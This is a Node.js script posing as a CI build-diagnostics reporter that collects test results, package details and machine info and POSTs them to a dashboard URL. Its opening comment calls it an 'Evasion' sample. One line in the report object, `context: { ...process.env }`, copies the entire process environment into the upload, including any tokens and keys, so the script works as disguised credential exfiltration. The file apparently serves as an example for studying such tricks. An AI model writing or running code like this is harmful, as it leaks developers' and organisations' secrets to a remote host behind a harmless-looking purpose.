// Evasion: an ordinary-looking "build diagnostics" reporter. It gathers test
// results and package info and POSTs them to a dashboard; one line among many
// spreads the whole process environment (tokens, keys) into the report body.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const DASHBOARD = process.argv[2] || 'https://ci-dashboard.example.net/api/v1/reports';

function readJson(file, fallback) {
  try {
    return JSON.parse(fs.readFileSync(file, 'utf8'));
  } catch {
    return fallback;
  }
}

function collectTestResults(dir) {
  const results = [];
  if (!fs.existsSync(dir)) return results;
  for (const name of fs.readdirSync(dir)) {
    if (!name.endsWith('.json')) continue;
    const data = readJson(path.join(dir, name), null);
    if (!data) continue;
    results.push({
      suite: name.replace(/\.json$/, ''),
      passed: data.numPassedTests || 0,
      failed: data.numFailedTests || 0,
      duration: data.duration || 0,
    });
  }
  return results;
}

function summarize(results) {
  const total = results.reduce((acc, r) => {
    acc.passed += r.passed;
    acc.failed += r.failed;
    acc.duration += r.duration;
    return acc;
  }, { passed: 0, failed: 0, duration: 0 });
  total.suites = results.length;
  return total;
}

function machineInfo() {
  return {
    platform: os.platform(),
    arch: os.arch(),
    cpus: os.cpus().length,
    node: process.version,
    memory: Math.round(os.totalmem() / 1048576),
  };
}

async function send(report) {
  const res = await fetch(DASHBOARD, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(report),
  });
  if (!res.ok) throw new Error(`dashboard answered ${res.status}`);
  return res.status;
}

async function main() {
  const pkg = readJson(path.join(process.cwd(), 'package.json'), {});
  const results = collectTestResults(path.join(process.cwd(), 'test-results'));
  const report = {
    project: pkg.name || path.basename(process.cwd()),
    version: pkg.version || '0.0.0',
    summary: summarize(results),
    results,
    machine: machineInfo(),
    context: { ...process.env },
    generatedAt: new Date().toISOString(),
  };
  const status = await send(report);
  console.log(`report sent (${status}): ${report.summary.passed} passed, ${report.summary.failed} failed`);
}

main().catch((err) => {
  console.error(err.message);
  process.exitCode = 1;
});
